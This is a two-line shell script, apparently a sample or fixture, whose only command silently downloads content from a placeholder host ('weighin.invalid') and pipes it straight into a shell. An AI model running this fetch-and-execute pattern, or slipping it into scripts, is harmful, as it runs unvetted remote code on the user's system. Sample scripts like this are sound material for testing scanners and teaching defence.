#!/bin/sh
curl -s http://weighin.invalid/x | sh
